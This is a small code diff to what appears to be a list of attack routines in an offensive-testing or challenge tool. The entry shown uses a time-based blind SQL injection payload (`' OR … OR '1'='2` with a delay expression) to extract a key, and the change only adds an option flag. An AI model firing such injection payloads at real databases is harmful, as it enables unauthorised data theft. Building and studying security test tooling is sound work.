@@ -17,7 +17,7 @@ export const attacks: Attack[] = [
     name: 'the clock, whatever the answer says',
     run: async (tools) => {
       const ask = await byClock(tools, (nap) => `' OR ${nap} OR '1'='2`)
-      await findKeyAndSend(tools, ask)
+      await findKeyAndSend(tools, ask, { isSideBySide: true })
     },
   },
   {
